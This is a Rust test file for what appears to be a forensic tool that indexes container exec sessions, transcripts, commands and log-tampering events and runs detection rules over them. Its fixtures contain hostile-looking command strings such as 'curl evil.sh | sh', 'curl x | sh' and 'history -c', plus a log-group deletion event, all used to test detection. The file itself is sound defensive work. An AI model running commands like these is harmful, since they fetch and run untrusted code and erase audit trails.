use polars::prelude::*;

use super::*;
use crate::config::Pattern;
use crate::model::{CommandRow, ExecEvent, Timestamp, TranscriptRow};

fn ev(id: &str, session: Option<&str>, outcome: &str, t: i64, who: &str) -> ExecEvent {
    ExecEvent {
        event_id: Some(id.into()),
        event_time: Timestamp(t),
        session_id: session.map(Into::into),
        outcome: Some(outcome.into()),
        principal: Some(who.into()),
        cluster: Some("prod".into()),
        ..Default::default()
    }
}

fn transcript(session: &str, status: &str, end: i64) -> TranscriptRow {
    TranscriptRow {
        transcript_id: Some(session.into()),
        session_id: Some(session.into()),
        time: Timestamp(end),
        status: Some(status.into()),
        footer_time: Some(Timestamp(end)),
        commands: Some(2),
        commands_run: Some(1),
        text: Some("$ ls\nfile\n".into()),
        ..Default::default()
    }
}

fn cmd(session: &str, seq: i64, text: &str, t: i64) -> CommandRow {
    CommandRow {
        command_id: Some(format!("{session}#{seq:05}")),
        session_id: Some(session.into()),
        seq: Some(seq),
        time: Timestamp(t),
        command: Some(text.into()),
        abandoned: Some(false),
        ..Default::default()
    }
}

fn data() -> Dataset {
    let events = vec![
        ev("1", Some("s1"), "success", 1_000, "alice"),
        ev("2", Some("s1"), "success", 2_000, "alice"),
        ev("3", None, "failed", 3_000, "bob"),
        ExecEvent {
            dry_run: Some(true),
            ..ev("4", Some("s2"), "success", 4_000, "bob")
        },
        ev("5", Some("s3"), "success", 5_000, "bob"),
    ];
    let ts = vec![
        transcript("s1", "truncated", 61_000),
        transcript("s9", "present", 70_000),
    ];
    let cmds = vec![
        cmd("s1", 1, "whoami", 61_000),
        cmd("s1", 2, "curl evil.sh | sh", 61_000),
        cmd("s9", 1, "history -c", 70_000),
    ];
    Dataset::from_rows(&events, &[], &ts, &cmds).unwrap()
}

fn strs(df: &DataFrame, c: &str) -> Vec<String> {
    df.column(c)
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .map(|v| v.unwrap_or("").to_owned())
        .collect()
}

fn get(d: &Dataset, lf: PolarsResult<LazyFrame>) -> DataFrame {
    let _ = d;
    lf.unwrap().collect().unwrap()
}

#[test]
fn one_session_per_id_joined_to_its_transcript() {
    let d = data();
    let s = get(&d, d.sessions(&Filter::default()));
    assert_eq!(strs(&s, "session_id"), ["s1", "s3"]);
    assert_eq!(strs(&s, "event_id"), ["1", "5"], "the earliest event wins");
    assert_eq!(strs(&s, "transcript_status"), ["truncated", "missing"]);
    let dur: Vec<Option<i64>> = s
        .column("duration_s")
        .unwrap()
        .i64()
        .unwrap()
        .iter()
        .collect();
    assert_eq!(dur, [Some(60), None]);
    let n: Vec<Option<i64>> = s
        .column("commands")
        .unwrap()
        .i64()
        .unwrap()
        .iter()
        .collect();
    assert_eq!(n, [Some(1), None]);
    let a = get(&d, d.attempts(&Filter::default()));
    assert_eq!(strs(&a, "event_id"), ["3"]);
    assert_eq!(
        strs(&get(&d, d.orphans(&Filter::default())), "session_id"),
        ["s9"]
    );
}

#[test]
fn commands_follow_the_filter_and_orphans_only_without_a_target() {
    let d = data();
    let all = get(&d, d.commands(&Filter::default()));
    assert_eq!(
        strs(&all, "command"),
        ["whoami", "curl evil.sh | sh", "history -c"]
    );
    assert_eq!(strs(&all, "principal"), ["alice", "alice", ""]);
    let alice = Filter {
        principal: Some(Pattern::new("ALICE")),
        ..Filter::default()
    };
    assert_eq!(strs(&get(&d, d.commands(&alice)), "command").len(), 2);
    let bob = Filter {
        principal: Some(Pattern::new("bob")),
        ..Filter::default()
    };
    assert_eq!(get(&d, d.commands(&bob)).height(), 0);
    let orphan = Filter {
        session: Some("s9".into()),
        ..Filter::default()
    };
    assert_eq!(
        strs(&get(&d, d.commands(&orphan)), "command"),
        ["history -c"]
    );
    let late = Filter {
        since: Some(Timestamp(65_000)),
        ..Filter::default()
    };
    assert_eq!(
        strs(&get(&d, d.commands(&late)), "command"),
        ["history -c"],
        "s1 started before --since; the orphan's own time is after it"
    );
    // A window's sessions give their commands whatever their transcript's time; commands filed
    // in the window of a session that started before it do not come with them.
    let window = |since: i64, until: i64| Filter {
        since: Some(Timestamp(since)),
        until: Some(Timestamp(until)),
        ..Filter::default()
    };
    assert_eq!(
        strs(&get(&d, d.commands(&window(500, 1_500))), "command"),
        ["whoami", "curl evil.sh | sh"]
    );
    assert_eq!(
        strs(&get(&d, d.commands(&window(60_000, 80_000))), "command"),
        ["history -c"]
    );
    assert_eq!(
        get(&d, d.commands(&window(2_000_000, 3_000_000))).height(),
        0
    );
}

#[test]
fn search_finds_commands_command_strings_and_output() {
    let d = data();
    let hits = get(
        &d,
        d.search(&Filter::default(), &Matcher::text("CURL"), false),
    );
    assert_eq!(strs(&hits, "found_in"), ["command"]);
    let out = get(
        &d,
        d.search(&Filter::default(), &Matcher::text("file"), true),
    );
    assert_eq!(strs(&out, "found_in"), ["output", "output"]);
    assert_eq!(strs(&out, "command"), ["file", "file"]);
    let re = get(
        &d,
        d.search(&Filter::default(), &Matcher::regex("^who").unwrap(), false),
    );
    assert_eq!(strs(&re, "command"), ["whoami"]);
}

#[test]
fn sql_sees_tables_and_views() {
    let d = data();
    let mut ctx = d.sql(&Filter::default()).unwrap();
    let df = ctx
        .execute(
            "SELECT principal, count(*) AS n FROM sessions GROUP BY principal ORDER BY principal",
        )
        .unwrap()
        .collect()
        .unwrap();
    assert_eq!(strs(&df, "principal"), ["alice", "bob"]);
    assert!(ctx
        .execute("SELECT nosuch FROM sessions")
        .and_then(|l| l.collect())
        .is_err());
}

#[test]
fn a_narrowing_filter_resolves_only_its_sessions_transcripts_and_answers_the_same() {
    let d = data();
    let all = get(&d, d.sessions(&Filter::default()));
    for who in ["alice", "bob", "nobody"] {
        let f = Filter {
            principal: Some(Pattern::new(who)),
            ..Filter::default()
        };
        let narrowed = get(&d, d.sessions(&f));
        let expected = all
            .clone()
            .lazy()
            .filter(col("principal").eq(lit(who)))
            .collect()
            .unwrap();
        assert!(
            narrowed.equals_missing(&expected),
            "{who}: {narrowed} {expected}"
        );
    }
}

#[test]
fn one_sessions_row_is_read_with_its_filter_inside_the_scan() {
    // A cached subplan kept the optimiser from pushing the filter into the Parquet scan: `show`
    // read every exec event of the store to find one session's row.
    let dir = tempfile::tempdir().unwrap();
    let mut store = crate::store::Store::open_for_write(dir.path()).unwrap();
    store
        .append(vec![
            ev("1", Some("s1"), "success", 1_000, "alice"),
            ev("5", Some("s3"), "success", 5_000, "bob"),
        ])
        .unwrap();
    drop(store);
    let data = Dataset::open(dir.path()).unwrap();
    let f = Filter {
        session: Some("s3".into()),
        ..Filter::default()
    };
    let plan = data.sessions(&f).unwrap().explain(true).unwrap();
    let exec_scan = plan
        .lines()
        .skip_while(|l| !(l.contains("Parquet SCAN") && l.contains("exec_events")))
        .take(3)
        .collect::<Vec<_>>()
        .join("\n");
    assert!(
        exec_scan.contains("SELECTION:") && exec_scan.contains("\"s3\""),
        "{plan}"
    );
    let rows = data.sessions(&f).unwrap().collect().unwrap();
    assert_eq!(strs(&rows, "session_id"), ["s3"]);
}

/// Copies are resolved alike whether the manifest lists the sessions with several transcripts
/// (this version's writer) or not (an older one's): a cut-off upload is superseded, different
/// transcripts conflict.
#[test]
fn copies_resolve_alike_with_and_without_the_manifests_list() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = crate::store::Store::open_for_write(dir.path()).unwrap();
    store
        .append(vec![
            ev("1", Some("s1"), "success", 1_000, "alice"),
            ev("2", Some("s2"), "success", 2_000, "bob"),
        ])
        .unwrap();
    let copy = |session: &str, id: &str, status: &str| TranscriptRow {
        transcript_id: Some(id.into()),
        ..transcript(session, status, 61_000)
    };
    let command = |session: &str, id: &str, seq: i64, text: &str| CommandRow {
        command_id: Some(format!("{id}#{seq:05}")),
        transcript_id: Some(id.into()),
        ..cmd(session, seq, text, 61_000)
    };
    store
        .append(vec![
            copy("s1", "s1", "present"),
            copy("s1", "s1~planted", "present"),
            copy("s2", "s2", "truncated"),
            copy("s2", "s2~whole", "present"),
        ])
        .unwrap();
    store
        .append(vec![
            command("s1", "s1", 1, "ls"),
            command("s1", "s1~planted", 1, "curl x | sh"),
            command("s2", "s2", 1, "id"),
            command("s2", "s2~whole", 1, "id"),
            command("s2", "s2~whole", 2, "env"),
        ])
        .unwrap();
    drop(store);
    let answer = || {
        let d = Dataset::open(dir.path()).unwrap();
        let s = get(&d, d.sessions(&Filter::default()));
        let c = get(&d, d.commands(&Filter::default()));
        (
            strs(&s, "transcript_status"),
            d.resolution().unwrap().left_out.clone(),
            strs(&c, "command"),
        )
    };
    let listed = answer();
    assert_eq!(listed.0, ["conflicting", "present"]);
    assert_eq!(listed.1, ["s2"]);
    let path = dir.path().join(crate::store::manifest::FILE);
    let mut m: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    assert_eq!(m["shared_sessions"], serde_json::json!(["s1", "s2"]));
    m.as_object_mut().unwrap().remove("shared_sessions");
    std::fs::write(&path, serde_json::to_vec(&m).unwrap()).unwrap();
    assert_eq!(answer(), listed);
}

/// Each session's findings, worked out over its slice, are the whole history's about it.
fn same_findings(
    data: &Dataset,
    detector: &crate::detect::Detector,
    all: &DataFrame,
    ids: &[&str],
) {
    let mut damage = Damage::default();
    for id in ids {
        let whole = all
            .clone()
            .lazy()
            .filter(col("session_id").eq(lit(*id)))
            .collect()
            .unwrap();
        let (own, _) = data.session_findings(detector, &mut damage, id).unwrap();
        assert!(whole.equals_missing(&own), "{id}: {whole}\n{own}");
    }
    assert!(damage.parts.is_empty());
}

/// A session's slice holds what its findings depend on: the sessions of its principal written
/// in another case (first use of a cluster compares principals lowercased), and the whole of a
/// session one of whose later events names the principal (its row takes the first event's).
#[test]
fn a_sessions_slice_gives_the_findings_the_whole_history_gives() {
    let (detector, _) = crate::detect::Detector::load(&Default::default()).unwrap();
    let events = vec![
        // x: opened by bob; a later event names alice.
        ev("1", Some("x"), "success", 1_000, "bob"),
        ev("2", Some("x"), "success", 2_000, "alice"),
        // ALICE before alice's sessions: alice's first use of prod.
        ev("3", Some("a0"), "success", 3_000, "ALICE"),
        ev("4", Some("a1"), "success", 4_000, "alice"),
        ev("5", Some("b1"), "success", 5_000, "bob"),
        ev("6", Some("c1"), "success", 6_000, "carol"),
    ];
    let ts = vec![transcript("a1", "present", 64_000)];
    let cmds = vec![cmd("a1", 1, "curl evil.sh | sh", 64_000)];
    let dir = tempfile::tempdir().unwrap();
    let mut store = crate::store::Store::open_for_write(dir.path()).unwrap();
    store.append(events).unwrap();
    store.append(ts).unwrap();
    store.append(cmds).unwrap();
    drop(store);
    let data = Dataset::open(dir.path()).unwrap();
    let mut damage = Damage::default();
    let all = data.findings(&detector, &mut damage).unwrap();
    let first_use = |df: &DataFrame| -> Vec<String> {
        let rules = strs(df, "rule_id");
        let ids = strs(df, "session_id");
        let mut v: Vec<String> = rules
            .iter()
            .zip(&ids)
            .filter(|(r, _)| r.as_str() == "exec-new-principal-cluster")
            .map(|(_, s)| s.clone())
            .collect();
        v.sort();
        v
    };
    assert_eq!(first_use(&all), ["a0", "c1", "x"]);
    same_findings(&data, &detector, &all, &["x", "a0", "a1", "b1", "c1"]);
    let (a1, row) = data.session_findings(&detector, &mut damage, "a1").unwrap();
    assert!(strs(&a1, "rule_id")
        .iter()
        .any(|r| r != "exec-new-principal-cluster"));
    assert_eq!(strs(&row, "session_id"), ["a1"]);
    assert!(damage.parts.is_empty());
}

/// A transcript filed under no date (its time outside the years 0000-9999, as a planted
/// CloudWatch export can make it) beside a dated one of the same session: both show their
/// commands. The days of a session's transcripts were a range of day names from the first to
/// the last, and `invalid` sorts after every date: the range held no day.
#[test]
fn commands_of_a_transcript_filed_under_no_date_are_found() {
    let t = -100_000_000_000_000i64;
    assert_eq!(crate::model::Timestamp(t).day(), "invalid");
    let dir = tempfile::tempdir().unwrap();
    let mut store = crate::store::Store::open_for_write(dir.path()).unwrap();
    store
        .append(vec![ev("1", Some("s1"), "success", 1_000, "alice")])
        .unwrap();
    store
        .append(vec![
            transcript("s1", "present", t),
            TranscriptRow {
                transcript_id: Some("s1~2".into()),
                ..transcript("s1", "present", 61_000)
            },
            transcript("s2", "present", 61_000),
        ])
        .unwrap();
    store
        .append(vec![
            cmd("s1", 1, "whoami", t),
            CommandRow {
                command_id: Some("s1~2#00001".into()),
                transcript_id: Some("s1~2".into()),
                ..cmd("s1", 1, "id", 61_000)
            },
            cmd("s2", 1, "uname", 61_000),
        ])
        .unwrap();
    drop(store);
    let data = Dataset::open(dir.path()).unwrap();
    let f = Filter {
        session: Some("s1".into()),
        ..Filter::default()
    };
    let mut got = strs(&get(&data, data.commands(&f)), "command");
    got.sort();
    assert_eq!(got, ["id", "whoami"]);
    let mut damage = Damage::default();
    let slice = data
        .session_slice(&mut damage, "s1", false)
        .unwrap()
        .unwrap();
    let mut got = strs(&get(&slice, slice.commands(&f)), "command");
    got.sort();
    assert_eq!(got, ["id", "whoami"]);
}

/// A session's slice holds, of the control events, the logging configurations and
/// enablements, those carrying its id and the changes to a destination; a change to another
/// resource stays out, and the findings are the whole history's.
#[test]
fn a_sessions_slice_holds_the_control_events_its_findings_read() {
    use crate::model::ControlEvent;
    let (detector, _) = crate::detect::Detector::load(&Default::default()).unwrap();
    let at = |id: &str, t: i64| ControlEvent {
        event_id: Some(id.into()),
        event_time: Timestamp(t),
        account: Some("111122223333".into()),
        region: Some("us-east-1".into()),
        ..Default::default()
    };
    let change = |id: &str, t: i64, group: &str| ControlEvent {
        kind: Some("tampering".into()),
        event_source: Some("logs.amazonaws.com".into()),
        event_name: Some("DeleteLogGroup".into()),
        resource: Some(group.into()),
        principal: Some("mallory".into()),
        ..at(id, t)
    };
    let ssm = |id: &str, t: i64, session: &str| ControlEvent {
        kind: Some("ssm_session".into()),
        event_source: Some("ssm.amazonaws.com".into()),
        event_name: Some("StartSession".into()),
        session_id: Some(session.into()),
        ssm_target: Some("ecs:prod_task_container".into()),
        ..at(id, t)
    };
    let control = vec![
        ControlEvent {
            kind: Some("exec_logging".into()),
            event_name: Some("UpdateCluster".into()),
            cluster: Some("prod".into()),
            exec_logging: Some("OVERRIDE".into()),
            exec_log_group: Some("/ecs/exec".into()),
            ..at("c1", 500)
        },
        change("c2", 3_000, "/ecs/exec"),
        change("c3", 3_500, "/other"),
        ssm("c4", 1_000, "s1"),
        ssm("c5", 5_000, "s3"),
    ];
    let with_place = |e: ExecEvent| ExecEvent {
        account: Some("111122223333".into()),
        region: Some("us-east-1".into()),
        ..e
    };
    let dir = tempfile::tempdir().unwrap();
    let mut store = crate::store::Store::open_for_write(dir.path()).unwrap();
    store
        .append(vec![
            with_place(ev("1", Some("s1"), "success", 1_000, "alice")),
            with_place(ev("5", Some("s3"), "success", 5_000, "bob")),
        ])
        .unwrap();
    store.append(control).unwrap();
    drop(store);
    let data = Dataset::open(dir.path()).unwrap();
    let mut damage = Damage::default();
    let slice = data
        .session_slice(&mut damage, "s1", false)
        .unwrap()
        .unwrap();
    let held = get(&slice, slice.table("control_events", None));
    assert_eq!(strs(&held, "event_id"), ["c1", "c4", "c2"]);
    let all = data.findings(&detector, &mut damage).unwrap();
    assert!(
        strs(&all, "rule_id").iter().any(|r| r.contains("degraded")),
        "{all}"
    );
    same_findings(&data, &detector, &all, &["s1", "s3"]);
}

/// `search --in-output` reads a run of days at a time: a day at a time, it answers what one
/// query over every day answers. A line that is one of its transcript's commands is input
/// (`$ ls` in s2's first transcript, `# ls` in s3's); the same line in a transcript where no
/// one typed `ls` is output (s1's, and s2's second, filed under another day). The days a
/// filter leaves out are not read.
#[test]
fn output_searched_a_day_at_a_time_answers_as_one_query() {
    const DAY: i64 = 86_400_000;
    let dir = tempfile::tempdir().unwrap();
    let mut store = crate::store::Store::open_for_write(dir.path()).unwrap();
    store
        .append(vec![
            ev("1", Some("s1"), "success", 1_000, "alice"),
            ev("2", Some("s2"), "success", DAY + 1_000, "bob"),
            ev("3", Some("s3"), "success", 2 * DAY + 1_000, "alice"),
        ])
        .unwrap();
    let with_text = |s: &str, t: i64, text: &str| TranscriptRow {
        text: Some(text.into()),
        ..transcript(s, "present", t)
    };
    store
        .append(vec![
            with_text("s1", 60_000, "$ cat notes\nrun ls first\n$ ls\n"),
            with_text("s2", DAY + 60_000, "$ ls\nls-output\n$ id\nuid=0(root)\n"),
            with_text("s3", 2 * DAY + 60_000, "# ls\nroot-ls.txt\n"),
            TranscriptRow {
                transcript_id: Some("s2~2".into()),
                ..with_text("s2", 2 * DAY + 90_000, "$ ls\n")
            },
        ])
        .unwrap();
    store
        .append(vec![
            cmd("s1", 1, "cat notes", 60_000),
            cmd("s2", 1, "ls", DAY + 60_000),
            cmd("s2", 2, "id", DAY + 60_000),
            cmd("s3", 1, "ls", 2 * DAY + 60_000),
        ])
        .unwrap();
    // s4's transcripts written day 3 first, then day 1, then day 2, each its own part: the
    // lines come in one order whatever the runs (by transcript time).
    // (Each types its own command: copies with the same commands would be one transcript.)
    for (i, day) in [2i64, 0, 1].into_iter().enumerate() {
        let tid = format!("s4~{i}");
        store
            .append(vec![TranscriptRow {
                transcript_id: Some(tid.clone()),
                ..with_text(
                    "s4",
                    day * DAY + 120_000,
                    &format!("$ echo {day}\nls-day-{day}\n"),
                )
            }])
            .unwrap();
        store
            .append(vec![CommandRow {
                transcript_id: Some(tid.clone()),
                command_id: Some(format!("{tid}#00001")),
                ..cmd("s4", 1, &format!("echo {day}"), day * DAY + 120_000)
            }])
            .unwrap();
    }
    // A transcript no session id names: its own command's echo is input too.
    store
        .append(vec![TranscriptRow {
            session_id: None,
            transcript_id: Some("source:notes.log".into()),
            ..with_text("x", 60_000, "/app # ls /tmp\nlsof-output\n")
        }])
        .unwrap();
    store
        .append(vec![CommandRow {
            session_id: None,
            transcript_id: Some("source:notes.log".into()),
            command_id: Some("source:notes.log#00001".into()),
            ..cmd("x", 1, "ls /tmp", 60_000)
        }])
        .unwrap();
    drop(store);
    let data = Dataset::open(dir.path()).unwrap();
    let lines = |f: &Filter, bytes: u64| {
        let ctx = data.session_context(f).unwrap();
        let m = Matcher::text("ls");
        let df = get(&data, data.output_in_runs(f, &ctx, &m, bytes));
        strs(&df, "session_id")
            .into_iter()
            .zip(strs(&df, "command"))
            .collect::<Vec<_>>()
    };
    let pair = |s: &str, l: &str| (s.to_owned(), l.to_owned());
    let all = Filter::default();
    let one_query = lines(&all, u64::MAX);
    assert_eq!(lines(&all, 0), one_query);
    let mut sorted = one_query.clone();
    sorted.sort();
    assert_eq!(
        sorted,
        [
            pair("", "lsof-output"),
            pair("s1", "$ ls"),
            pair("s1", "run ls first"),
            pair("s2", "$ ls"),
            pair("s2", "ls-output"),
            pair("s3", "root-ls.txt"),
            pair("s4", "ls-day-0"),
            pair("s4", "ls-day-1"),
            pair("s4", "ls-day-2"),
        ]
    );
    let s4: Vec<_> = one_query.iter().filter(|(s, _)| s == "s4").collect();
    assert_eq!(
        s4,
        [
            &pair("s4", "ls-day-0"),
            &pair("s4", "ls-day-1"),
            &pair("s4", "ls-day-2")
        ]
    );
    let ctx = data.session_context(&all).unwrap();
    let whole = data
        .days_to_read(TranscriptRow::NAME, &all, &ctx, u64::MAX)
        .unwrap();
    assert_eq!(whole.len(), 1, "one run holds every day: {whole:?}");
    // bob's session has transcripts on days 2 and 3: day 1 is not read.
    let bob = Filter {
        principal: Some(Pattern::new("bob")),
        ..Filter::default()
    };
    let ctx = data.session_context(&bob).unwrap();
    let runs = data
        .days_to_read(TranscriptRow::NAME, &bob, &ctx, 0)
        .unwrap();
    assert_eq!(runs.len(), 2, "bob's two days: {runs:?}");
    let mut got = lines(&bob, 0);
    got.sort();
    assert_eq!(got, [pair("s2", "$ ls"), pair("s2", "ls-output")]);
}
